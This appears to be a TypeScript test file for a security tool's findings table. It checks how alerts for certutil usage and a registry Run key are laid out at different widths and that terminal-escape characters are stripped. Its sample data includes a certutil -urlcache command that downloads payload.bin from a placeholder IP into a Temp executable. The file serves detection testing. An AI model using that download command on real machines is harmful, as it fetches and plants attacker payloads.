import type { FindingKey as Finding } from '@casement/engine';
import { describe, expect, it } from 'vitest';
import { FindingGroups, type RuleFacts } from '../findings/finding-groups.js';
import { colours } from '../io/colours.js';
import { sampleFinding, sampleProcess } from '../testing/sample-findings.js';
import { displayWidth } from './display-width.js';
import { findingsTable } from './findings-table.js';

const FACTS: Record<string, RuleFacts> = {
  certutil_usage: { id: 'certutil_usage', severity: 'high', techniques: ['T1105', 'T1140'] },
  run_key: { id: 'run_key', severity: 'low', techniques: ['T1547.001'] },
};

function table(findings: readonly Finding[], width: number, limit = 10, kept?: number): string[] {
  const groups = new FindingGroups((rule) => FACTS[rule] ?? { id: rule, severity: '', techniques: [] }, kept);
  for (const finding of findings) groups.add(finding);
  return [...findingsTable(groups.ordered(), { width, ink: colours(false), limit })];
}

const FINDINGS = [
  sampleFinding({
    seconds: 0,
    rule: 'run_key',
    event: {
      title: 'A run key was set',
      evt: { name: 'set_key_value' },
      registry: {
        key_path: 'HKEY_USERS\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        value_name: 'evil',
      },
    },
  }),
  sampleFinding({ seconds: 1, rule: 'certutil_usage' }),
  sampleFinding({ seconds: 61, rule: 'certutil_usage' }),
  sampleFinding({ seconds: 3601, rule: 'certutil_usage', host: '工作站-07' }),
];

describe('the table of findings', () => {
  it('at 80 cells', () => {
    expect(table(FINDINGS, 80)).toEqual([
      'certutil_usage  high  T1105 T1140  3 findings',
      '  2024-06-25 09:11:21.123 → 10:11:21.123',
      '  Certutil was executed to transmit or decode a file',
      '',
      '  2024-06-25 09:11:21.123  WS01.corp.example  CORP\\bob',
      '    certutil.exe (4313 and others)  ×2 until 09:12:21.123',
      '    ? (612) › explorer.exe (700) › cmd.exe (900) › powershell.exe (4242)',
      '    command certutil -urlcache -split -f http://203.0.113.7/payload.bin C:\\User…',
      '',
      '  2024-06-25 10:11:21.123  工作站-07  CORP\\bob  certutil.exe (7913)',
      '    ? (612) › explorer.exe (700) › cmd.exe (900) › powershell.exe (4242)',
      '    command certutil -urlcache -split -f http://203.0.113.7/payload.bin C:\\User…',
      '',
      'run_key  low  T1547.001  1 finding  2024-06-25 09:11:20.123',
      '  A run key was set',
      '',
      '  2024-06-25 09:11:20.123  WS01.corp.example  CORP\\bob  certutil.exe (4312)',
      '    ? (612) › explorer.exe (700) › cmd.exe (900) › powershell.exe (4242)',
      '    key     …S\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
      '    value   evil',
      '    command certutil -urlcache -split -f http://203.0.113.7/payload.bin C:\\User…',
    ]);
  });

  it('at 40 cells', () => {
    expect(table(FINDINGS.slice(1, 2), 40)).toEqual([
      'certutil_usage  high  T1105 T1140',
      '  1 finding  2024-06-25 09:11:21.123',
      '  Certutil was executed to transmit or',
      '  decode a file',
      '',
      '  2024-06-25 09:11:21.123',
      '    WS01.corp.example  CORP\\bob',
      '    certutil.exe (4313)',
      '    …d.exe (900) › powershell.exe (4242)',
      '    command certutil -urlcache -split -…',
    ]);
  });

  it('at 200 cells nothing is cut', () => {
    const lines = table(FINDINGS, 200);
    expect(lines.join('\n')).not.toContain('…');
    expect(lines).toContain(
      '    command certutil -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe',
    );
  });

  it('keeps every line within the width and free of what a log could smuggle in', () => {
    const nasty = ['\u001b[2J\r\n\u202eexe.txt\u200b', '工'.repeat(90), 'e\u0301'.repeat(300)].join('');
    const hostile = sampleFinding({
      seconds: 5,
      rule: `rule${nasty}`,
      host: nasty,
      event: {
        title: nasty,
        evt: { name: 'rename' },
        usr: { name: nasty },
        file: { path: nasty, destination: { device_path: nasty } },
        process: sampleProcess({
          executable: { name: nasty },
          cmdline: nasty,
          truncated_ancestors: true,
          ancestors: [{ pid: 1, executable: { name: nasty } }],
        }),
      },
    });
    for (const width of [20, 40, 80, 200]) {
      for (const line of table([hostile], width)) {
        expect(displayWidth(line)).toBeLessThanOrEqual(width);
        expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
      }
    }
  });

  it('says what it leaves out', () => {
    const many = Array.from({ length: 15 }, (_, i) =>
      sampleFinding({ seconds: i, rule: 'certutil_usage', host: `H${i}` }),
    );
    expect(table(many, 100).at(-1)).toBe('  and 5 more occurrences (--all shows them)');
    expect(table(many, 100, Number.POSITIVE_INFINITY, 12).at(-1)).toBe(
      '  and 3 findings only in --format events',
    );
    expect(table(many, 100, 99).at(-1)).not.toContain('more');
  });

  it('shows the target of each kind of event', () => {
    const lines = (event: object): string =>
      table([sampleFinding({ seconds: 0, rule: 'r', event })], 200).join('\n');
    expect(
      lines({ evt: { name: 'write' }, file: { path: 'C:\\a', device_path: '\\Device\\x\\a' } }),
    ).toContain('file    C:\\a');
    expect(lines({ evt: { name: 'delete' }, file: { device_path: '\\Device\\x\\a' } })).toContain(
      'file    \\Device\\x\\a',
    );
    expect(lines({ evt: { name: 'set_key_value' }, registry: { key_path: 'K' } })).toContain(
      'value   (default)',
    );
    expect(lines({ evt: { name: 'exit' }, exit: { cause: 'EXITED', code: 3221225477 } })).toContain(
      'exit    code 3221225477',
    );
    expect(
      lines({ evt: { name: 'change_permission' }, permission_change: { type: 'File', path: 'C:\\b' } }),
    ).toContain('object  File C:\\b');
    expect(lines({ process: undefined, usr: undefined })).not.toContain('undefined');
  });
});
